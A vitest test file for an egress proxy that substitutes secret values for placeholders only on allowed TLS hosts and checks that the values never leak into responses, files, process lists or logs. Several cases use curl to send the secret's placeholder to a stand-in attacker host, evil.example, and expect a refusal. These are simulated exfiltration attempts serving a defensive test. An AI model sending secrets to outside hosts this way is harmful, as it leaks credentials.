import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { inspect } from "node:util";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { temporaryDirectory } from "../../../../test/setup/clean-up.js";
import { allowing, EgressHosts, onPorts, until } from "../../../../test/setup/egress-hosts.js";
import { openAuthority } from "../certificates/authority.js";
import { createCaBundle } from "../certificates/ca-bundle.js";
import { Secret } from "./secret.js";
import { SecretSet } from "./secret-set.js";
import { echoesOf } from "./value-encodings.js";

const VALUE = 'tok"en/0123456789+abcdef';
const hosts = new EgressHosts();
let stateDir: string;
let bundle: string;
let secrets: SecretSet;
let placeholder: string;
let api = 0;
let evil = 0;
let plain = 0;
let expired = 0;
/** Everything that hosts were sent: what they saw is what left. */
let arrived = "";

async function repeat(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const body = (await buffer(request)).toString();
  const line = `${request.method} ${request.url}`;
  const seen = `${line}\n${request.rawHeaders.join("\n")}\n\n${body}`;
  arrived += seen;
  if (request.url === "/gzip") {
    response.setHeader("content-encoding", "gzip");
    response.end(gzipSync(seen));
    return;
  }
  const header = request.headers.authorization ?? "none";
  response.writeHead(200, `Seen ${request.headers["x-key"] ?? "nothing"}`, {
    "x-echo": header,
    location: `/?${encodeURIComponent(header)}`,
  });
  for (const character of seen) response.write(character);
  response.end();
}

beforeAll(async () => {
  stateDir = temporaryDirectory();
  const authority = await openAuthority(stateDir);
  bundle = join(stateDir, "bundle.pem");
  writeFileSync(bundle, createCaBundle(`${authority.certificate}${hosts.ca}`));
  const value = VALUE;
  const here = ["api.example", "old.example", "plain.example"];
  secrets = new SecretSet(
    [new Secret({ name: "TOKEN", value, hosts: here, in: ["header", "query", "body"] })],
    authority,
  );
  placeholder = secrets.placeholders()["TOKEN"]!;
  api = await hosts.https((request, response) => void repeat(request, response), "api.example");
  evil = await hosts.https((request, response) => void repeat(request, response), "evil.example");
  expired = await hosts.https((request, response) => void repeat(request, response), "old.example", {
    expired: true,
  });
  plain = await hosts.http((request, response) => void repeat(request, response));
});

afterAll(() => hosts.close());

beforeEach(async () => {
  arrived = "";
  const names = ["api.example", "evil.example", "old.example", "plain.example"];
  const rules = allowing(names, onPorts(api, evil, plain, expired));
  await hosts.open({ rules, secrets, upstreamCa: hosts.ca });
});

const curl = (...args: string[]) => hosts.curl("--cacert", bundle, ...args);

function expectNoValue(...things: unknown[]): void {
  const text = things
    .map((thing) => (typeof thing === "string" ? thing : inspect(thing, { depth: 20 })))
    .join("\n");
  for (const form of echoesOf(VALUE)) expect(text).not.toContain(form.toString());
}

describe("a real client, through egress, to a real host that repeats everything", () => {
  it("sends the value in headers, query and body, and gets placeholders back", async () => {
    const basic = Buffer.from(`me:${placeholder}`).toString("base64");
    const answer = await curl(
      ...["-i", "-H", `Authorization: Basic ${basic}`, "-H", `X-Key: ${placeholder}`],
      ...["-H", "content-type: application/json", "-d", JSON.stringify({ key: placeholder })],
      `https://api.example:${api}/path?key=${placeholder}`,
    );
    expect(answer).toMatchObject({ status: 0, stderr: "" });
    expect(arrived).toContain(`POST /path?key=${encodeURIComponent(VALUE)}`);
    expect(arrived).toContain(`Basic ${Buffer.from(`me:${VALUE}`).toString("base64")}`);
    expect(arrived).toContain(`X-Key\n${VALUE}`);
    expect(arrived).toContain(`\n\n${JSON.stringify({ key: VALUE })}`);
    expect(arrived).not.toContain(placeholder);
    expectNoValue(answer);
    expect(answer.stdout).toContain(`HTTP/1.1 200 Seen ${placeholder}`);
    expect(answer.stdout).toContain(`x-echo: Basic ${basic}`);
    expect(answer.stdout).toContain(`X-Key\n${placeholder}`);
    await until(() => hosts.events.length === 1, "it is told");
    expect(hosts.events[0]).toMatchObject({
      via: "https",
      host: "api.example",
      verdict: "allowed",
      secrets: ["TOKEN"],
    });
    expectNoValue(hosts.events);
  });

  it("gets placeholders back from a host that compresses without being asked", async () => {
    const answer = await curl(
      "-H",
      `X-Key: ${placeholder}`,
      "--compressed",
      `https://api.example:${api}/gzip`,
    );
    expect(arrived).toContain(VALUE);
    expectNoValue(answer);
    expect(answer.stdout).toContain(`X-Key\n${placeholder}`);
  });

  it.each<[string, () => string[], string]>([
    [
      "plain HTTP to another host",
      () => ["-H", `X-Key: ${placeholder}`, `http://evil.example:${plain}/`],
      "the secret TOKEN is not for evil.example",
    ],
    [
      "plain HTTP to its own host",
      () => ["-H", `X-Key: ${placeholder}`, `http://plain.example:${plain}/`],
      "the secret TOKEN is only sent over TLS, and this request to plain.example is not",
    ],
    [
      "a body for another host",
      () => ["-d", `a=${placeholder}`, `http://evil.example:${plain}/`],
      "the secret TOKEN is not for evil.example",
    ],
  ])("is refused for %s: nothing leaves, and it is told", async (_, args, why) => {
    const answer = await curl("-i", ...args());
    expect(answer.stdout).toContain("HTTP/1.1 403");
    expect(answer.stdout).toContain(why);
    await until(() => hosts.events.length === 1, "it is told");
    expect(hosts.events[0]).toMatchObject({ verdict: "denied", why, secrets: ["TOKEN"] });
    expect(arrived).not.toContain(placeholder);
    expectNoValue(arrived, hosts.events, answer);
  });

  it("sends nothing where the host's certificate is not good", async () => {
    const answer = await curl("-i", "-H", `X-Key: ${placeholder}`, `https://old.example:${expired}/`);
    expect(answer.stdout).toContain("its certificate has expired");
    expect(arrived).toBe("");
    expectNoValue(answer, hosts.events);
  });

  it("sees a host without secrets with the host's own certificate", async () => {
    const answer = await curl("-v", `https://evil.example:${evil}/`);
    expect(answer.stderr).toContain("issuer: CN=test");
    const own = await curl("-v", `https://api.example:${api}/`);
    expect(own.stderr).toMatch(/issuer: CN=Skerry egress CA/);
  });

  it("leaves no value in a file, a process list or anything that egress gives out", async () => {
    await curl("-H", `X-Key: ${placeholder}`, `https://api.example:${api}/`);
    const files = readdirSync(stateDir, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => readFileSync(join(entry.parentPath ?? entry.path, entry.name), "utf8"));
    expect(files.length).toBe(3);
    const processes = execFileSync("ps", ["axeww", "-o", "args"], { encoding: "utf8" });
    expectNoValue(
      files.join("\n"),
      processes,
      hosts.egress,
      hosts.egress.environment,
      hosts.egress.takeDenials(),
    );
  });
});
